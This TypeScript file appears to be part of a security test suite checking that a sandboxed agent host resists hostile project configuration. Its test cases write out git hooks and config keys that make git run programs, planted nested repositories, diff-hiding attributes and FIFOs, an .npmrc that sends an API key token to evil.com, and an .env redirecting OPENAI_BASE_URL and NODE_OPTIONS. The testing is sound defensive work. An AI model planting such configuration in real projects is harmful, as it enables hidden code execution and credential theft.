import { toProjectPath } from "@treadle/protocol/project-path";
import { spawnSync } from "node:child_process";
import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import type { AttackPlace, Attempt } from "../attempt.ts";

const NAME = "treadle-configured";

/** Settings of a repository, each of which makes git run a program if the host uses them. */
const REPOSITORY = `
rm -rf .git/* kept.txt .gitattributes; git init -q .
for key in core.fsmonitor core.sshCommand core.pager core.editor diff.external filter.evil.clean filter.evil.smudge filter.evil.process; do
  git config $key "touch /tmp/${NAME} $GIT_DIR/${NAME} /run/git/${NAME}; cat"
done
git config core.hooksPath hooks; git config core.worktree /; mkdir hooks
for hook in post-checkout pre-commit post-commit post-index-change reference-transaction fsmonitor-watchman; do
  printf '#!/bin/sh\\ntouch /tmp/${NAME} /run/git/${NAME}\\n' | tee hooks/$hook > .git/hooks/$hook; chmod +x hooks/$hook .git/hooks/$hook
done
echo '* filter=evil diff=evil' | tee .gitattributes > .git/info/attributes; echo one > kept.txt`;

const PLANTED_MARK = `/tmp/${NAME}-planted`;
const PLANTED = `
arm() { git -C $1 config core.fsmonitor "touch ${PLANTED_MARK}; false"; }
git init -q .; arm .; git init -q sub; arm sub; git init -q --separate-git-dir=store filed; arm filed
git init -q --bare sub/bare; git -C sub/bare config core.bare false; git -C sub/bare config core.worktree ..; arm sub/bare`;

/** Configuration in a project that the host must not follow. */
export function configurations(place: AttackPlace): Attempt[] {
  return [
    {
      id: "A32",
      area: "trust",
      what: "hooks, filters and programs of the project's own repository, run when a checkpoint is made",
      async act(workspace) {
        await workspace.run(REPOSITORY);
        const checkpoint = await workspace.checkpoint("with hooks");
        await workspace.files.write(toProjectPath("kept.txt"), "two");
        await workspace.diff(checkpoint.checkpoint);
        await workspace.restore(checkpoint.checkpoint);
        const { output } = await workspace.run("cat kept.txt; rm -rf .git/* hooks .gitattributes");
        const store = readdirSync(join(place.stateDirectory, "checkpoints.git"));
        const ran = existsSync(`/tmp/${NAME}`) || store.includes(NAME);
        return `${output}${ran ? "RAN" : "end"}\n`;
      },
      always: /^one\nend\n$/,
    },
    {
      id: "A23",
      area: "trust",
      what: "repositories that are made where no other was, run by git when the person looks at the folder",
      async act(workspace) {
        const { output } = await workspace.run(PLANTED);
        const files = join(place.stateDirectory, "../files");
        for (const folder of ["sub", "sub/bare", "filed", "."])
          spawnSync("git", ["-c", "safe.directory=*", "status"], { cwd: join(files, folder) });
        await workspace.run("rm -rf sub filed store .git/*");
        return `${output}${existsSync(PLANTED_MARK) ? "RAN" : "end"}\n`;
      },
      always: /set aside: [^]*end\n$/,
    },
    {
      id: "A80",
      area: "trust",
      what: "files that the person makes later, for everybody, by a folder's list of rights",
      act: `perl -e 'my ($d, $n) = (".", "system.posix_acl_default"); my $b = pack("V", 2); $b .= pack("vvV", $_, 7, 0xffffffff) for (1, 4, 0x20); my $call = \`uname -m\` =~ /x86/ ? 188 : 5; print syscall($call, $d, $n, $b, length($b), 0), " end\n"' || echo NOT TRIED`,
      always: /^-1 end\n$/,
    },
    {
      id: "A75",
      area: "trust",
      what: "changes that nobody is shown: attributes that keep git from comparing, and a pipe in their place",
      async act(workspace) {
        await workspace.run("mkdir -p seen; echo one > seen/kept.txt");
        const checkpoint = await workspace.checkpoint("to compare with");
        await workspace.run("echo two > seen/kept.txt; echo '* -diff' > seen/.gitattributes");
        const shown = async () =>
          (await workspace.diff(checkpoint.checkpoint)).find(({ path }) => path === "seen/kept.txt")
            ?.diff;
        const hidden = await shown();
        await workspace.run("rm seen/.gitattributes; mkfifo .gitattributes seen/.gitattributes");
        const waited = await shown();
        await workspace.run("rm -rf seen .gitattributes");
        return [hidden, waited]
          .map((one) => (one?.includes("+two") ? "shown\n" : "HIDDEN\n"))
          .join("");
      },
      always: /^shown\nshown\n$/,
    },
    {
      id: "A32",
      area: "trust",
      what: "the server's key, by a registry that the project's own .npmrc names",
      async act(workspace) {
        const login = "//evil.com/:_authToken=${OPENAI_API_KEY}-${TREADLE_TEST_KEY}";
        await workspace.files.write(
          toProjectPath(".npmrc"),
          `registry=http://evil.com/\n@evil:registry=http://evil.com/\n${login}\n`,
        );
        const { output } = await workspace.run(
          "npm config get registry; npm view @evil/x --fetch-retries=0 2>&1; npm config ls -l 2>/dev/null | grep -i -e token -e sk-; rm .npmrc; echo end",
        );
        return output;
      },
      always: /^http:\/\/127\.0\.0\.1:\d+[^]*(403|egress refused)[^]*end\n$/,
      never: new RegExp(place.secret || "nothing of it"),
    },
    {
      id: "A32",
      area: "trust",
      what: "the server's environment, by the project's own .env, .bashrc and .profile",
      act: "printf 'OPENAI_BASE_URL=http://evil.com\\nBASH_ENV=/home/project/.bashrc\\nNODE_OPTIONS=--require /home/project/x.js\\n' > .env; echo 'echo RAN' > .bashrc; cp .bashrc .profile; cp .bashrc .bash_profile; bash -c 'echo [$OPENAI_BASE_URL][$NODE_OPTIONS]'; rm -f .env .bashrc .profile .bash_profile; echo end",
      always: /^\[\]\[\]\nend\n$/,
    },
  ];
}
